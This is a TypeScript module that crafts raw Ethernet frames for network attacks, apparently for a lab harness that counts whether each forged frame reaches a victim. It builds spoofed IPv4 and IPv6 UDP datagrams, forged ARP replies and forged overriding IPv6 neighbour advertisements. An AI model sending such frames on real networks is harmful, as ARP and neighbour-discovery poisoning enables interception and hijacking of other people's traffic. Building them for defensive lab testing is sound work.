/**
 * Ethernet frames of the attacks, byte for byte. Pure. Each holds a marker inside the packet (not in a trailer, which a
 * bridge may trim) by which a witness at the victim knows it again, so that landing is counted and never inferred.
 */
import assert from 'node:assert/strict';
import { isIPv4, isIPv6 } from 'node:net';

export const macBytes = (mac: string): Buffer => {
  assert(/^([0-9a-f]{2}:){5}[0-9a-f]{2}$/i.test(mac), `"${mac}" is not a MAC`);
  return Buffer.from(mac.replaceAll(':', ''), 'hex');
};

export const ip4Bytes = (ip: string): Buffer => {
  assert(isIPv4(ip), `"${ip}" is not an IPv4 address`);
  return Buffer.from(ip.split('.').map(Number));
};

export const ip6Bytes = (ip: string): Buffer => {
  assert(isIPv6(ip) && !ip.includes('.') && !ip.includes('%'), `"${ip}" is not a plain IPv6 address`);
  const [head = '', tail] = ip.split('::');
  const words = (text: string) => text.split(':').filter(Boolean);
  const before = words(head);
  const after = tail === undefined ? [] : words(tail);
  const zeros = Array.from({ length: 8 - before.length - after.length }, () => '0');
  const bytes = Buffer.alloc(16);
  [...before, ...zeros, ...after].forEach((word, index) => {
    bytes.writeUInt16BE(Number.parseInt(word, 16), index * 2);
  });
  return bytes;
};

/** RFC 1071: the complement of the one's complement sum of 16-bit words. */
export function internetChecksum(...parts: Buffer[]): number {
  const bytes = Buffer.concat(parts);
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += (bytes[i]! << 8) | (bytes[i + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

const u16 = (value: number) => {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16BE(value);
  return bytes;
};

export interface Addresses {
  /** Ethernet. */
  fromMac: string;
  toMac: string;
  /** Network layer. */
  from: string;
  to: string;
}

const ethernet = (a: Pick<Addresses, 'fromMac' | 'toMac'>, etherType: number, payload: Buffer) =>
  Buffer.concat([macBytes(a.toMac), macBytes(a.fromMac), u16(etherType), payload]);

const IPV4 = 0x0800;
const ARP = 0x0806;
const IPV6 = 0x86dd;
const UDP = 17;
const ICMPV6 = 58;
/** Nobody answers there, so the reply to a forgery does not become traffic of its own. */
const DISCARD_PORT = 9;

function udp(pseudo: Buffer, payload: Buffer): Buffer {
  const header = Buffer.concat([u16(DISCARD_PORT), u16(DISCARD_PORT), u16(8 + payload.length), u16(0)]);
  // A checksum of 0 would mean "none".
  header.writeUInt16BE(internetChecksum(pseudo, header, payload) || 0xffff, 6);
  return Buffer.concat([header, payload]);
}

/** A UDP datagram over IPv4 with the marker as its text. */
export function udp4Frame(a: Addresses, marker: Buffer): Buffer {
  const [from, to] = [ip4Bytes(a.from), ip4Bytes(a.to)];
  const datagram = udp(Buffer.concat([from, to, Buffer.from([0, UDP]), u16(8 + marker.length)]), marker);
  const header = Buffer.concat([
    Buffer.from([0x45, 0]),
    u16(20 + datagram.length),
    Buffer.from([0, 0, 0x40, 0, 64, UDP, 0, 0]),
    from,
    to,
  ]);
  header.writeUInt16BE(internetChecksum(header), 10);
  return ethernet(a, IPV4, Buffer.concat([header, datagram]));
}

const ip6 = (a: Addresses, nextHeader: number, hopLimit: number, payload: Buffer) =>
  ethernet(
    a,
    IPV6,
    Buffer.concat([
      Buffer.from([0x60, 0, 0, 0]),
      u16(payload.length),
      Buffer.from([nextHeader, hopLimit]),
      ip6Bytes(a.from),
      ip6Bytes(a.to),
      payload,
    ]),
  );

const pseudo6 = (a: Addresses, nextHeader: number, length: number) =>
  Buffer.concat([
    ip6Bytes(a.from),
    ip6Bytes(a.to),
    Buffer.from([0, 0]),
    u16(length),
    Buffer.from([0, 0, 0, nextHeader]),
  ]);

/** A UDP datagram over IPv6 with the marker as its text. */
export function udp6Frame(a: Addresses, marker: Buffer): Buffer {
  return ip6(a, UDP, 64, udp(pseudo6(a, UDP, 8 + marker.length), marker));
}

/** An ARP message; `from` and `to` are its IPv4 addresses, the hardware addresses are the frame's own. */
export function arpFrame(a: Addresses, operation: 'request' | 'reply'): Buffer {
  const head = Buffer.from([0, 1, 8, 0, 6, 4, 0, operation === 'request' ? 1 : 2]);
  return ethernet(a, ARP, Buffer.concat([head, arpTail(a)]));
}
/** The last 20 bytes of an ARP message: who says what to whom. Together they are like no honest message's. */
export const arpTail = (a: Addresses) =>
  Buffer.concat([macBytes(a.fromMac), ip4Bytes(a.from), macBytes(a.toMac), ip4Bytes(a.to)]);

function icmp6Frame(a: Addresses, body: Buffer): Buffer {
  body.writeUInt16BE(internetChecksum(pseudo6(a, ICMPV6, body.length), body), 2);
  // Neighbour discovery is only believed with a hop limit that no router has touched.
  return ip6(a, ICMPV6, 255, body);
}

/** A neighbour advertisement that says `target` is at the frame's own MAC; solicited and overriding. */
export function neighbourAdvertFrame(a: Addresses, target: string): Buffer {
  const head = Buffer.from([136, 0, 0, 0, 0x60, 0, 0, 0]);
  return icmp6Frame(a, Buffer.concat([head, neighbourTail(a, target)]));
}
/** Target and target link-layer address option: like no honest advertisement's. */
export const neighbourTail = (a: Pick<Addresses, 'fromMac'>, target: string) =>
  Buffer.concat([ip6Bytes(target), Buffer.from([2, 1]), macBytes(a.fromMac)]);

/** A neighbour solicitation for `target` by whoever `from` claims to be, with the frame's own MAC as source option. */
export function neighbourSolicitFrame(a: Addresses, target: string): Buffer {
  const head = Buffer.from([135, 0, 0, 0, 0, 0, 0, 0]);
  return icmp6Frame(a, Buffer.concat([head, ip6Bytes(target), Buffer.from([1, 1]), macBytes(a.fromMac)]));
}

/** Frames as `labtool send` reads them: 16-bit length, then the bytes. */
export const packFrames = (frames: readonly Buffer[]) =>
  Buffer.concat(frames.flatMap((frame) => [u16(frame.length), frame]));
